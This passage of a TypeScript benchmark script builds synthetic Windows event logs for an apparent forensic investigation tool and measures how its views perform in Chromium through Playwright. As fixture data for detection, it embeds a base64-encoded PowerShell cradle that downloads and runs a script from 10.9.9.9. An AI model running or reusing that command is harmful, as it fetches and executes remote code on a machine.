// Benchmark of the investigator's views on a real case (issue 6): a million events, one logon
// session of 20,000 processes, served by `chainline serve` with the production renderer build
// and measured in Debian's Chromium through Playwright.
//
//   npm run bench:views             (builds the node code and the renderer, then runs)
//   node dist/node/scripts/bench-views.js [--events N] [--big N] [--dir /tmp/perf-views-bench] [--rebuild]
//                                         [--only cold|warm] [--runs N] [--json out.json]
//                                         [--profile DIR] [--trace DIR]
// --profile writes a CPU profile of the page per phase, --trace a Chromium trace per phase
// (timeline, V8 and GC events: open in DevTools' Performance panel); both slow the page.
//
// The evidence (evtx_dump JSON lines) and the imported case are built once under --dir and
// reused. Each run copies the case to a scratch folder first, so serve never changes the cached
// one (correlation results it stores would make the next cold run warm).
//
// Two timings:
//   cold — serve started on the case and the page opened at once (the engine may still be
//          computing the case's analysis: what a user sees on reopening a case);
//   warm — the page opened once the sessions API answers (what the renderer is responsible for).
// In both, the page navigates once the new window's own browser UI (a Chromium WebUI renderer
// that Electron does not have) has gone idle: see browserIdle.
// Targets: sessions list and first table page visible ≤ 1 s after navigation; every frame
// < 50 ms while scrolling the table top to bottom and while expanding and scrolling the largest
// process tree; renderer JS heap and RSS < 300 MB.

import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { loadavg } from 'node:os';
import { join, resolve } from 'node:path';
import { chromium, type Browser, type Page } from '@playwright/test';
import { seededRandom } from '../electron/engine/testing/seeded-random.js';
import { spawnServe, type ServeProcess } from '../electron/serve/testing/serve-process.js';
import { importBenchCase, staleRules } from './bench-case.js';
import { startFrames, stopFrames, type FrameStats } from './frame-recorder.js';
import { writeLinesAtomically } from './write-lines.js';

const args = process.argv.slice(2);
const opt = (name: string, fallback: string): string => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 && args[i + 1] !== undefined ? (args[i + 1] as string) : fallback;
};
const EVENTS = Number(opt('events', '1000000'));
const BIG = Number(opt('big', '20000'));
const DIR = opt('dir', '/tmp/perf-views-bench');
const EVIDENCE = join(DIR, `evidence-${EVENTS}-${BIG}.jsonl`);
const CASE_DIR = join(DIR, `case-${EVENTS}-${BIG}`);
const ONLY = opt('only', '');
/** With --profile DIR: a CDP CPU profile of each measured phase, written there as .cpuprofile. */
const PROFILE = opt('profile', '');
const TRACE = opt('trace', '');
const RUNS = Number(opt('runs', '1'));
const ROOT = resolve(import.meta.dirname, '..', '..', '..');
const CHROMIUM = process.env['CHAINLINE_CHROMIUM'] ?? '/usr/bin/chromium';

const load = (): string => loadavg().map((x) => x.toFixed(2)).join(' ');
const seconds = (t0: number): number => (performance.now() - t0) / 1000;

// ---------------------------------------------------------------------------------------------
// Evidence


const IMAGES = [
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\notepad.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\net.exe',
  'C:\\Windows\\System32\\whoami.exe',
  'C:\\Windows\\System32\\tasklist.exe',
];
const ENC = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://10.9.9.9/a')", 'utf16le').toString('base64');
const SECURITY = ['Microsoft-Windows-Security-Auditing', 'Security'] as const;
const SYSMON = ['Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational'] as const;

interface Proc {
  readonly pid: number;
  readonly image: string;
  readonly logonId: string;
  readonly user: string;
}
interface Host {
  readonly name: string;
  readonly ip: string;
  nextPid: number;
  alive: Proc[];
  sessions: { logonId: string; user: string }[];
  nextLogon: number;
}

/**
 * The evidence as evtx_dump JSON lines, in time order: 10 hosts; on HOST00 one RDP session whose
 * user starts BIG processes (a tree several levels deep, parents among the session's recent
 * processes); about 2,000 other logon sessions with a few processes each, some running encoded
 * PowerShell (findings); script blocks, service installs; Sysmon network connections fill the rest.
 * PIDs are never reused, so every parent edge is a plain PID+time match.
 */
function* evidenceLines(n: number, big: number, seed = 7): Generator<string> {
  const rnd = seededRandom(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rnd() * list.length)] as T;
  const hosts: Host[] = [];
  for (let h = 0; h < 10; h++) {
    hosts.push({ name: `HOST${String(h).padStart(2, '0')}.corp.example`, ip: `10.1.0.${h + 10}`, nextPid: 1000, alive: [], sessions: [], nextLogon: 0x200000 });
  }
  const bigHost = hosts[0] as Host;
  let ms = Date.UTC(2024, 2, 1, 8);
  let recordId = 0;
  let emitted = 0;
  const line = (host: Host, [provider, channel]: readonly [string, string], eventId: number, data: Record<string, string>, processId = 4): string => {
    emitted++;
    ms += Math.floor(rnd() * 9);
    return JSON.stringify({
      Event: {
        System: {
          Provider: { '#attributes': { Name: provider } },
          EventID: eventId,
          TimeCreated: { '#attributes': { SystemTime: new Date(ms).toISOString().replace('Z', '') + String(Math.floor(rnd() * 10_000)).padStart(4, '0') + 'Z' } },
          EventRecordID: ++recordId,
          Execution: { '#attributes': { ProcessID: processId, ThreadID: 8 } },
          Channel: channel,
          Computer: host.name,
        },
        EventData: data,
      },
    });
  };
  const logon = (host: Host, logonId: string, user: string, type: number, src: Host): string =>
    line(host, SECURITY, 4624, {
      SubjectLogonId: '0x3e7', TargetUserSid: 'S-1-5-21-1-2-3-1104', TargetUserName: user, TargetDomainName: 'CORP', TargetLogonId: logonId,
      LogonType: String(type), LogonProcessName: 'User32', AuthenticationPackageName: 'Negotiate', WorkstationName: src.name.split('.')[0] as string,
      IpAddress: src.ip, IpPort: '50000', ElevatedToken: '%%1842',
    });
  const start = (host: Host, parent: Proc | null, logonId: string, user: string, image: string, cmd: string): [string, Proc] => {
    const pid = (host.nextPid += 4);
    const proc: Proc = { pid, image, logonId, user };
    host.alive.push(proc);
    return [
      line(host, SECURITY, 4688, {
        SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: logonId, NewProcessId: '0x' + pid.toString(16), NewProcessName: image,
        TokenElevationType: '%%1936', ProcessId: '0x' + (parent ? parent.pid : 0x2ac).toString(16), CommandLine: cmd,
        TargetLogonId: '0x0', ParentProcessName: parent ? parent.image : 'C:\\Windows\\System32\\userinit.exe', MandatoryLabel: 'S-1-16-8192',
      }),
      proc,
    ];
  };
  const command = (image: string, pid: number): string =>
    image.endsWith('powershell.exe') && rnd() < 0.05 ? `${image} -nop -w hidden -enc ${ENC}` : `"${image}" /c task-${pid} --verbose`;

  // The big session opens first.
  const bigLogon = '0x1e8480';
  yield logon(bigHost, bigLogon, 'operator', 10, hosts[5] as Host);
  const [explorerLine, explorer] = start(bigHost, null, bigLogon, 'operator', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\explorer.exe');
  yield explorerLine;
  const bigAlive: Proc[] = [explorer];
  let bigStarted = 1;
  // Per emitted event: the chance of a big-session process start, spread over the whole case.
  const bigRate = big / n;
  while (emitted < n) {
    const r = rnd();
    if (r < bigRate && bigStarted < big) {
      // Parents among the recent processes (a deep, bushy tree), now and then the shell itself.
      const parent = rnd() < 0.15 ? explorer : (bigAlive[Math.max(0, bigAlive.length - 1 - Math.floor(rnd() * 50))] as Proc);
      const image = pick(IMAGES);
      const [l, proc] = start(bigHost, parent, bigLogon, 'operator', image, command(image, bigHost.nextPid + 4));
      bigAlive.push(proc);
      if (bigAlive.length > 400) bigAlive.splice(1, 1);
      bigStarted++;
      yield l;
      continue;
    }
    const h = pick(hosts);
    const q = rnd();
    if (q < 0.0025) {
      // A new logon session (with its 4672 when elevated).
      const logonId = '0x' + (h.nextLogon++).toString(16);
      const user = `user${Math.floor(rnd() * 300)}`;
      h.sessions.push({ logonId, user });
      if (h.sessions.length > 50) h.sessions.shift();
      yield logon(h, logonId, user, pick([2, 3, 3, 10]), pick(hosts));
      if (rnd() < 0.3) yield line(h, SECURITY, 4672, { SubjectUserName: user, SubjectDomainName: 'CORP', SubjectLogonId: logonId, PrivilegeList: 'SeDebugPrivilege' });
    } else if (q < 0.0045 && h.sessions.length > 0) {
      const s = pick(h.sessions);
      const own = h.alive.filter((p) => p.logonId === s.logonId);
      const parent = own.length > 0 && rnd() < 0.6 ? pick(own) : null;
      const image = pick(IMAGES);
      const [l] = start(h, parent, s.logonId, s.user, image, command(image, h.nextPid + 4));
      if (h.alive.length > 300) h.alive.splice(0, 1);
      yield l;
    } else if (q < 0.0055 && h.sessions.length > 5) {
      const i = Math.floor(rnd() * h.sessions.length);
      const s = h.sessions[i] as { logonId: string };
      h.sessions.splice(i, 1);
      yield line(h, SECURITY, 4634, { TargetUserName: 'user', TargetDomainName: 'CORP', TargetLogonId: s.logonId, LogonType: '3' });
    } else if (q < 0.04) {
      const alive = h === bigHost && rnd() < 0.5 ? bigAlive : h.alive;
      if (alive.length === 0) continue;
      const p = pick(alive);
      const total = 1 + Math.floor(rnd() * 2);
      const id = `{${(recordId + 1).toString(16).padStart(8, '0')}-0000-4000-8000-000000000000}`;
      for (let m = 1; m <= total && emitted < n; m++) {
        yield line(h, ['Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational'], 4104, {
          MessageNumber: String(m), MessageTotal: String(total), ScriptBlockText: `Get-ChildItem C:\\Users\\${p.user} -Recurse | Select-Object -First ${m}`,
          ScriptBlockId: id, Path: '',
        }, p.pid);
      }
    } else if (q < 0.04003) {
      const name = `Svc${recordId}`;
      yield line(h, ['Service Control Manager', 'System'], 7045, { ServiceName: name, ImagePath: `C:\\ProgramData\\${name}.exe`, ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' });
    } else {
      const alive = h === bigHost && rnd() < 0.5 ? bigAlive : h.alive;
      if (alive.length === 0) continue;
      const p = pick(alive);
      const dest = pick(hosts);
      yield line(h, SYSMON, 3, {
        RuleName: '-', UtcTime: new Date(ms).toISOString(), ProcessGuid: '', ProcessId: String(p.pid), Image: p.image, User: `CORP\\${p.user}`,
        Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: h.ip, SourceHostname: h.name, SourcePort: String(49152 + Math.floor(rnd() * 16000)),
        DestinationIsIpv6: 'false', DestinationIp: dest.ip, DestinationHostname: dest.name, DestinationPort: pick(['445', '443', '5985', '135']),
      }, 2000);
    }
  }
}

async function writeEvidence(): Promise<void> {
  const t0 = performance.now();
  const written = await writeLinesAtomically(EVIDENCE, evidenceLines(EVENTS, BIG));
  console.log(`evidence: ${written} events, ${(statSync(EVIDENCE).size / 2 ** 20).toFixed(0)} MiB in ${seconds(t0).toFixed(1)} s`);
}

// ---------------------------------------------------------------------------------------------
// Serve and measure

type Served = ServeProcess;

function startServe(caseDir: string, dataDir: string): Promise<Served> {
  return spawnServe(ROOT, ['--case', caseDir], { CHAINLINE_DATA_DIR: dataDir }, 120_000);
}

async function callApi(s: Served, method: string, callArgs: unknown[] = []): Promise<unknown> {
  const response = await fetch(`${s.origin}/api/${method}`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-Chainline-Token': s.token },
    body: JSON.stringify({ args: callArgs }),
  });
  const body = (await response.json()) as { result?: unknown; error?: unknown };
  if (body.error !== undefined) throw new Error(`${method}: ${JSON.stringify(body.error)}`);
  return body.result;
}

interface PhaseFigures extends FrameStats {
  /** Deltas over the phase, ms: renderer process CPU, main-thread tasks, script, layout, style. */
  readonly cpuMs?: number;
  readonly taskMs?: number;
  readonly scriptMs?: number;
  readonly layoutMs?: number;
  readonly styleMs?: number;
  /** CPU over the phase, ms, of serve's process (engine, database) and of Chromium's processes other than its renderers. */
  readonly serveCpuMs?: number;
  /** Of serveCpuMs, serve's own (HTTP) thread; the rest is the engine's worker, DuckDB's and V8's threads. */
  readonly serveMainCpuMs?: number;
  /** The most CPU serve used in any 100 ms of the phase, in cores (two here: above 1, it took CPU the page could have had). */
  readonly servePeakCores?: number;
  /** serve's three busiest threads over the phase, ms (the engine's worker, V8's GC helpers, DuckDB's). */
  readonly serveTopThreadsMs?: readonly number[];
  readonly browserCpuMs?: number;
}

/** Scrolls `selector` from top to bottom in `steps` steps, one per frame. */
async function scrollThrough(page: Page, selector: string, steps: number): Promise<void> {
  await page.evaluate(`(async () => {
    const el = document.querySelector(${JSON.stringify(selector)});
    for (let i = 1; i <= ${steps}; i++) {
      el.scrollTop = ((el.scrollHeight - el.clientHeight) * i) / ${steps};
      await new Promise((r) => requestAnimationFrame(() => r(null)));
    }
  })()`);
}

function rssOfTree(pids: readonly number[]): number {
  let kb = 0;
  for (const pid of pids) {
    try {
      const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
      if (m) kb += Number(m[1]);
    } catch {
      // gone
    }
  }
  return kb / 1024;
}

/** The child processes of a process (Linux /proc), none when it is gone. */
function childPids(pid: number): number[] {
  try {
    return readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean).map(Number);
  } catch {
    return [];
  }
}

/** The renderer processes of the browser (Chromium's --type=renderer children), by pid. */
function rendererPids(browserPid: number): number[] {
  const out: number[] = [];
  const walk = (pid: number): void => {
    for (const c of childPids(pid)) {
      try {
        const cmd = readFileSync(`/proc/${c}/cmdline`, 'utf8');
        if (cmd.includes('--type=renderer') && !cmd.includes('--extension-process')) out.push(c);
      } catch {
        // gone
      }
      walk(c);
    }
  };
  walk(browserPid);
  return out;
}

type Figures = Record<string, unknown>;

/**
 * Serves a fresh copy of the case and measures the page: once for cold (opened at once), `runs`
 * times for warm (after the analysis is ready). With `variants` (renderer build folders), each
 * warm run is repeated per variant, copied into dist/renderer first (serve reads the files on
 * every request): back-to-back A/B runs on one engine.
 */
async function measure(mode: 'cold' | 'warm', runs: number, variants: readonly string[]): Promise<Figures[]> {
  const scratch = mkdtempSync('/tmp/perf-views-run-');
  const caseCopy = join(scratch, 'case');
  cpSync(CASE_DIR, caseCopy, { recursive: true });
  let serveStart = performance.now();
  // Cold: serve starts only when the page is about to open (see pageRun), so the engine gets no
  // head start while the browser's window settles. Warm: now, and the analysis is awaited.
  let started: Served | undefined;
  const serve = async (): Promise<Served> => {
    if (started === undefined) {
      serveStart = performance.now();
      started = await startServe(caseCopy, join(scratch, 'data'));
    }
    return started;
  };
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--enable-precise-memory-info'],
  });
  const out: Figures[] = [];
  try {
    let ready: Figures = {};
    if (mode === 'warm') {
      const served = await serve();
      const t0 = performance.now();
      await callApi(served, 'listSessions');
      ready = { analysisReadyAfterServeS: Number(seconds(serveStart).toFixed(1)), listSessionsApiS: Number(seconds(t0).toFixed(1)) };
      // Detection's summary and the overview too: warm means every engine cache the first screen uses.
      const t1 = performance.now();
      await callApi(served, 'getFindingsSummary');
      await callApi(served, 'getCaseOverview');
      ready['findingsAndOverviewApiS'] = Number(seconds(t1).toFixed(1));
    }
    // Cold is measured once, on the last variant (the others would find the engine warm).
    const list = variants.length === 0 ? [''] : mode === 'cold' ? variants.slice(-1) : variants;
    for (let run = 0; run < (mode === 'cold' ? 1 : runs); run++) {
      for (const variant of list) {
        if (variant !== '') {
          rmSync(join(ROOT, 'dist', 'renderer'), { recursive: true, force: true });
          cpSync(variant, join(ROOT, 'dist', 'renderer'), { recursive: true });
        }
        const figures: Figures = { mode, run: run + 1, variant, loadavgBefore: load(), ...ready };
        try {
          await pageRun(browser, serve, figures);
        } catch (e) {
          figures['error'] = e instanceof Error ? e.message.split('\n')[0] : String(e);
        }
        console.log(verdict(figures));
        out.push(figures);
      }
    }
  } finally {
    await browser.close();
    await started?.stop();
    rmSync(scratch, { recursive: true, force: true });
  }
  return out;
}

async function pageRun(browser: Browser, serve: () => Promise<Served>, figures: Figures): Promise<void> {
  const mode = figures['mode'] as string;
  {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    // When the first session row and the first table row enter the DOM, by the page's own clock
    // (ms since navigation start): Playwright's visibility polling backs off to 500 ms steps, so
    // timing its waits from Node adds up to half a second that the user never waits. And when
    // the frame with both has been painted (a task after the next frame: style, layout, paint).
    // (Strings: this file is compiled without the DOM's types.)
    await page.addInitScript({
      content: `(() => {
        const seen = {};
        window.__firstSeen = seen;
        const look = () => {
          for (const id of ['session-row', 'event-row']) {
            if (seen[id] === undefined && document.querySelector('[data-testid="' + id + '"]')) seen[id] = performance.now();
          }
          if (seen.painted === undefined && seen['session-row'] !== undefined && seen['event-row'] !== undefined) {
            seen.painted = null;
            // The first task after the frame's rendering: a user-blocking one runs before any
            // timer the app queued for after that same frame (main.tsx asks for the rest of the
            // case in one, 30-50 ms of work after the screen is already painted). A timer here
            // ran behind it and counted it (kept as paintedTimer, for comparison).
            requestAnimationFrame(() => {
              const mark = () => {
                if (typeof seen.painted !== 'number') seen.painted = performance.now();
              };
              if (window.scheduler && typeof window.scheduler.postTask === 'function') window.scheduler.postTask(mark, { priority: 'user-blocking' });
              setTimeout(() => {
                seen.paintedTimer = performance.now();
                mark();
              }, 0);
            });
          }
        };
        new MutationObserver(look).observe(document, { childList: true, subtree: true });
      })();`,
    });
    const cdp = await context.newCDPSession(page);
    await cdp.send('Performance.enable');
    /** Renderer CPU and main-thread work (CDP Performance.getMetrics): less load-dependent than frame times. */
    const metrics = async (): Promise<Record<string, number>> => {
      const m = (await cdp.send('Performance.getMetrics')) as { metrics: { name: string; value: number }[] };
      return Object.fromEntries(m.metrics.map((x) => [x.name, x.value]));
    };
    let phaseStart: Record<string, number> = {};
    // The CPU of the other processes a frame waits for or competes with on two cores: serve
    // (the engine and its database threads) and Chromium's processes besides the page's.
    let servePid: number | undefined;
    const others = (): { serve: number; browser: number } => {
      const chromiumPid = findChromiumPid();
      const renderers = chromiumPid === undefined ? [] : rendererPids(chromiumPid);
      const browserAll = chromiumPid === undefined ? 0 : cpuOfTree(chromiumPid);
      return { serve: servePid === undefined ? 0 : cpuOfTree(servePid), browser: browserAll - renderers.reduce((n, p) => n + cpuOfTree(p), 0) };
    };
    let othersStart = { serve: 0, browser: 0 };
    let serveThreadsStart = new Map<number, number>();
    // serve's CPU every 100 ms of a phase, for its busiest 100 ms.
    let peakSampler: ReturnType<typeof setInterval> | undefined;
    let servePeak = 0;
    const phaseBegin = async (): Promise<void> => {
      phaseStart = await metrics();
      othersStart = others();
      serveThreadsStart = servePid === undefined ? new Map() : threadCpus(servePid);
      servePeak = 0;
      let last = othersStart.serve;
      let lastAt = performance.now();
      clearInterval(peakSampler);
      peakSampler = setInterval(() => {
        if (servePid === undefined) return;
        const now = cpuOfTree(servePid);
        const at = performance.now();
        servePeak = Math.max(servePeak, (now - last) / ((at - lastAt) / 1000));
        last = now;
        lastAt = at;
      }, 100);
      peakSampler.unref(); // never what keeps the benchmark running
    };
    const phaseEnd = async (frames: FrameStats): Promise<PhaseFigures> => {
      clearInterval(peakSampler);
      const now = await metrics();
      const o = others();
      const d = (k: string): number => Math.round(((now[k] ?? 0) - (phaseStart[k] ?? 0)) * 1000);
      return {
        ...frames,
        cpuMs: d('ProcessTime'),
        taskMs: d('TaskDuration'),
        scriptMs: d('ScriptDuration'),
        layoutMs: d('LayoutDuration'),
        styleMs: d('RecalcStyleDuration'),
        serveCpuMs: Math.round((o.serve - othersStart.serve) * 1000),
        ...serveThreadFigures(servePid, serveThreadsStart),
        servePeakCores: Number(servePeak.toFixed(2)),
        browserCpuMs: Math.round((o.browser - othersStart.browser) * 1000),
      };
    };
    let profiling = '';
    const profileStart = async (name: string): Promise<void> => {
      if (TRACE !== '') {
        mkdirSync(TRACE, { recursive: true });
        profiling = name;
        await browser.startTracing(page, {
          path: join(TRACE, `${mode}-${figures['run']}-${name}.json`),
          categories: ['devtools.timeline', 'disabled-by-default-devtools.timeline', 'disabled-by-default-devtools.timeline.frame', 'v8', 'v8.execute', 'disabled-by-default-v8.gc', 'toplevel', 'loading', 'blink.user_timing'],
        });
      }
      if (PROFILE === '') return;
      profiling = name;
      await cdp.send('Profiler.enable');
      await cdp.send('Profiler.setSamplingInterval', { interval: 200 });
      await cdp.send('Profiler.start');
    };
    const profileStop = async (): Promise<void> => {
      if (TRACE !== '' && profiling !== '') {
        await browser.stopTracing();
        if (PROFILE === '') profiling = '';
      }
      if (PROFILE === '' || profiling === '') return;
      const { profile } = (await cdp.send('Profiler.stop')) as { profile: unknown };
      mkdirSync(PROFILE, { recursive: true });
      writeFileSync(join(PROFILE, `${mode}-${figures['run']}-${profiling}.cpuprofile`), JSON.stringify(profile));
      profiling = '';
    };
    figures['browserIdleWaitMs'] = await browserIdle();
    const served = await serve();
    servePid = served.child.pid;
    const nav0 = Date.now();
    const cpu0 = (await metrics())['ProcessTime'] ?? 0;
    const cpuSince = async (): Promise<number> => Math.round((((await metrics())['ProcessTime'] ?? 0) - cpu0) * 1000);
    await profileStart('startup');
    await page.goto(served.url);
    // Each on its own: the table does not wait for the sessions (a cold engine correlates first).
    // The renderer's own CPU until then too (the wall time includes waiting for the engine and,
    // on a loaded machine, for a core).
    // Watched by reading the init script's record over CDP, not with Playwright's locators:
    // their first use compiles Playwright's injected script in the page and they poll the DOM
    // every frame, on the main thread the first screen is built on (in A/B runs of the same
    // build, ~150-250 ms later first screens than with this poll), which no user pays.
    const pollStart = Date.now();
    for (;;) {
      const { result } = (await cdp.send('Runtime.evaluate', { expression: 'JSON.stringify(window.__firstSeen ?? {})', returnByValue: true })) as { result: { value?: string } };
      const seen = JSON.parse(result.value ?? '{}') as Record<string, number | null>;
      if (seen['session-row'] !== undefined && figures['sessionsVisibleMs'] === undefined) {
        figures['sessionsVisibleMs'] = Date.now() - nav0;
        figures['sessionsVisibleCpuMs'] = await cpuSince();
      }
      if (seen['event-row'] !== undefined && figures['firstTablePageMs'] === undefined) {
        figures['firstTablePageMs'] = Date.now() - nav0;
        figures['firstTablePageCpuMs'] = await cpuSince();
      }
      if (typeof seen['painted'] === 'number' && typeof seen['paintedTimer'] === 'number') break;
      if (Date.now() - pollStart > 600_000) throw new Error('the first screen did not appear in 600 s');
      await new Promise((r) => setTimeout(r, 25));
    }
    await page.getByTestId('session-row').first().waitFor({ state: 'visible' });
    await page.getByTestId('event-row').first().waitFor({ state: 'visible' });
    const firstSeen = ((await page.evaluate('window.__firstSeen')) ?? {}) as Record<string, number>;
    await profileStop();
    figures['sessionsInDomMs'] = Math.round(firstSeen['session-row'] ?? -1);
    figures['firstTablePageInDomMs'] = Math.round(firstSeen['event-row'] ?? -1);
    figures['firstScreenPaintedMs'] = Math.round(firstSeen['painted'] ?? -1);
    figures['firstScreenPaintedTimerMs'] = Math.round(firstSeen['paintedTimer'] ?? -1);
    // The page's own start-up milestones (renderer/main.tsx).
    figures['startupMarks'] = await page.evaluate(
      `performance.getEntriesByType('mark').filter((m) => m.name.startsWith('chainline:')).map((m) => m.name.slice(10) + ' ' + Math.round(m.startTime)).join(', ')`,
    );
    figures['total'] = Number(await page.getByTestId('filter-total').getAttribute('data-count'));
    // Where the time to the first screen went: each API call and script, from navigation start.
    figures['startupRequests'] = await page.evaluate(
      `performance.getEntriesByType('resource').map((e) => e.name.replace(/^.*\\/(api|assets)\\//, '$1/').replace(/\\?.*$/, '') + ' ' + Math.round(e.startTime) + '+' + Math.round(e.duration)).join(', ')`,
    );
    await page.waitForTimeout(1000);

    // The table, top to bottom in 300 steps, one per frame; then the last rows arrive.
    await profileStart('table-scroll');
    await phaseBegin();
    await startFrames(page);
    await scrollThrough(page, '.et-scroll', 300);
    await page.waitForTimeout(500);
    figures['tableScroll'] = await phaseEnd(await stopFrames(page));
    await profileStop();
    const t0 = Date.now();
    const lastIndex = (figures['total'] as number) + 1;
    for (;;) {
      const shown = await page.evaluate(
        `[...document.querySelectorAll('[data-testid="event-row"]')].some((r) => Number(r.getAttribute('aria-rowindex')) === ${lastIndex})`,
      );
      if (shown === true) break;
      if (Date.now() - t0 > 120_000) {
        await page.screenshot({ path: join(DIR, `fail-${mode}.png`) });
        throw new Error('the last rows of the table did not arrive in 120 s');
      }
      await page.waitForTimeout(50);
    }
    figures['lastPageMs'] = Date.now() - t0;

    // The session with the most processes: its tree, collapsed, then expand-all, then scroll it.
    await page.getByTestId('session-sort').selectOption('processes');
    await page.waitForTimeout(300);
    const bigRow = page.getByTestId('session-row').first();
    figures['bigSession'] = await bigRow.getAttribute('data-session-id');
    // The chain of a busy session is engine work (hundreds of thousands of steps): timed apart.
    // Whole (getSessionChain) or in pages (getSessionChainPage): done once a chain response has
    // finished and no chain request is under way or follows within a second. (The bodies are not
    // read: DevTools evicts large ones from its cache.)
    const chainAt = Date.now();
    const chainDone = new Promise<void>((resolve, reject) => {
      let bytes = 0;
      let inFlight = 0;
      let seen = 0;
      let quiet: ReturnType<typeof setTimeout> | undefined;
      const isChain = (url: string): boolean => url.includes('/api/getSessionChain');
      const timer = setTimeout(() => reject(new Error('the session chain did not arrive in 600 s')), 600_000);
      const finish = (): void => {
        page.off('request', onRequest);
        page.off('requestfinished', onFinished);
        clearTimeout(timer);
        figures['chainResponseMs'] = Date.now() - chainAt - 1000;
        figures['chainMB'] = Number((bytes / 2 ** 20).toFixed(1));
        figures['chainRequests'] = seen;
        resolve();
      };
      const onRequest = (r: { url(): string }): void => {
        if (!isChain(r.url())) return;
        inFlight++;
        seen++;
        if (quiet) clearTimeout(quiet);
      };
      const onFinished = async (r: { url(): string; sizes(): Promise<{ responseBodySize: number }> }): Promise<void> => {
        if (!isChain(r.url())) return;
        bytes += (await r.sizes().catch(() => ({ responseBodySize: 0 }))).responseBodySize;
        inFlight--;
        if (inFlight === 0) quiet = setTimeout(finish, 1000);
      };
      page.on('request', onRequest);
      page.on('requestfinished', onFinished);
    });
    await bigRow.click();
    await page.getByTestId('view-tab-tree').waitFor({ state: 'visible', timeout: 120_000 });
    await profileStart('tree-open');
    await phaseBegin();
    await startFrames(page);
    const t1 = Date.now();
    await page.getByTestId('view-tab-tree').click();
    await page.getByTestId('tree-row').first().waitFor({ state: 'visible', timeout: 300_000 });
    figures['treeOpenMs'] = Date.now() - t1;
    await page.waitForTimeout(300);
    figures['treeOpenFrames'] = await phaseEnd(await stopFrames(page));
    await profileStop();
    // The rest on the whole tree: the chain adds the processes of the sessions it led to.
    await chainDone;
    await page.waitForTimeout(1000);
    figures['treeProcesses'] = await page.locator('.tree-view .view-toolbar .small.muted').last().textContent();
    await page.getByTestId('tree-collapse-all').click();
    await page.waitForTimeout(300);
    await profileStart('expand-all');
    await phaseBegin();
    await startFrames(page);
    const t2 = Date.now();
    await page.getByTestId('tree-expand-all').click();
    await page.locator('[data-testid="tree-row"][aria-level="3"]').first().waitFor({ state: 'visible' });
    figures['expandAllMs'] = Date.now() - t2;
    await page.waitForTimeout(300);
    figures['expandAllFrames'] = await phaseEnd(await stopFrames(page));
    await profileStop();
    await profileStart('tree-scroll');
    await phaseBegin();
    await startFrames(page);
    await scrollThrough(page, '.tree-scroll', 300);
    await page.waitForTimeout(300);
    figures['treeScroll'] = await phaseEnd(await stopFrames(page));
    await profileStop();

    const before = (await cdp.send('Performance.getMetrics')) as { metrics: { name: string; value: number }[] };
    figures['jsHeapUsedMB'] = Math.round((before.metrics.find((m) => m.name === 'JSHeapUsedSize')?.value ?? 0) / 2 ** 20);
    figures['jsHeapTotalMB'] = Math.round((before.metrics.find((m) => m.name === 'JSHeapTotalSize')?.value ?? 0) / 2 ** 20);
    await cdp.send('HeapProfiler.collectGarbage');
    const after = (await cdp.send('Performance.getMetrics')) as { metrics: { name: string; value: number }[] };
    figures['jsHeapUsedAfterGcMB'] = Math.round((after.metrics.find((m) => m.name === 'JSHeapUsedSize')?.value ?? 0) / 2 ** 20);
    figures['domNodes'] = after.metrics.find((m) => m.name === 'Nodes')?.value;
    const ctxPid = findChromiumPid();
    if (ctxPid !== undefined) {
      const pids = rendererPids(ctxPid);
      figures['rendererRssMB'] = Math.round(Math.max(0, ...pids.map((p) => rssOfTree([p]))));
    }
    figures['loadavgAfter'] = load();
    await context.close();
  }
}

/** CPU seconds (user + system) in a /proc `stat` file (a process's or a thread's); null when gone. */
function statCpu(path: string): number | null {
  try {
    // Fields after the command name (which may hold spaces): utime and stime are the 12th and 13th.
    const stat = readFileSync(path, 'utf8');
    const f = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    // USER_HZ is 100 on Linux.
    return (Number(f[11]) + Number(f[12])) / 100;
  } catch {
    return null;
  }
}

/** Of a phase, from serve's threads' CPU at its start: its HTTP (main) thread's and its three busiest threads' CPU, ms. */
function serveThreadFigures(pid: number | undefined, start: ReadonlyMap<number, number>): Pick<PhaseFigures, 'serveMainCpuMs' | 'serveTopThreadsMs'> {
  if (pid === undefined) return {};
  const used = new Map([...threadCpus(pid)].map(([tid, cpu]) => [tid, Math.round((cpu - (start.get(tid) ?? 0)) * 1000)]));
  return { serveMainCpuMs: used.get(pid), serveTopThreadsMs: [...used.values()].sort((a, b) => b - a).slice(0, 3) };
}

/** CPU seconds used so far by each thread of a process, by thread id. */
function threadCpus(pid: number): Map<number, number> {
  const out = new Map<number, number>();
  try {
    for (const tid of readdirSync(`/proc/${pid}/task`).map(Number)) out.set(tid, statCpu(`/proc/${pid}/task/${tid}/stat`) ?? 0);
  } catch {
    // gone
  }
  return out;
}

/** CPU seconds (user + system) used so far by a process and all its descendants (Linux /proc). */
function cpuOfTree(pid: number): number {
  const own = statCpu(`/proc/${pid}/stat`);
  if (own === null) return 0;
  return own + childPids(pid).reduce((sum, c) => sum + cpuOfTree(c), 0);
}

/**
 * Waits until the browser's processes are idle (under 30 ms of CPU in 300 ms), at most 10 s;
 * answers the wait in ms. A new Chromium window starts its own browser UI: a "top-chrome"
